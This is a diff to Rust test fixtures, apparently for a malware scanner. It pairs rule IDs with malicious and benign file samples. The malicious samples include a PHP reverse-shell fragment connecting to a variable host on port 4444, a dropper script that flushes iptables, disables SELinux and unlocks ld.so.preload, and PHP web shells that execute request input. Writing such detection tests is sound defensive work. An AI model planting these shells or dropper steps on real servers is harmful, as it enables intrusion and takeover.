@@ -91,6 +91,11 @@ fn scripts() -> Vec<Pair> {
             ),
         ),
         pair(
+            "content.socket-shell",
+            ("/var/www/html/r.php", "<?php $s = fsockopen($ip, 4444);\n$p = proc_open($shell, $d, $pipes);\n"),
+            ("/var/www/html/r.php", "<?php $s = fsockopen($ip, 25);\nfwrite($s, 'QUIT');\n"),
+        ),
+        pair(
             "content.dropper",
             ("/tmp/d", "#!/bin/sh\npkill -f kinsing\nchattr -i /etc/ld.so.preload\niptables -F\nsetenforce 0\n"),
             ("/etc/init.d/firewall", "#!/bin/sh\niptables -F\npkill -f firewalld\n"),
@@ -157,6 +162,11 @@ fn shells() -> Vec<Pair> {
             "content.web-shell-call",
             ("/var/www/html/x.php", "<?php array_filter(array('id'), $_REQUEST['f']);"),
             ("/var/www/html/x.php", "<?php $a = array_filter($_POST, 'is_string');"),
+        ),
+        pair(
+            "content.web-shell-variable",
+            ("/var/www/html/x.php", "<?php\nextract($_POST);\npassthru($c);\n"),
+            ("/var/www/html/x.php", "<?php\nextract($defaults);\npassthru($c);\n"),
         ),
         pair(
             "content.web-shell-variable",
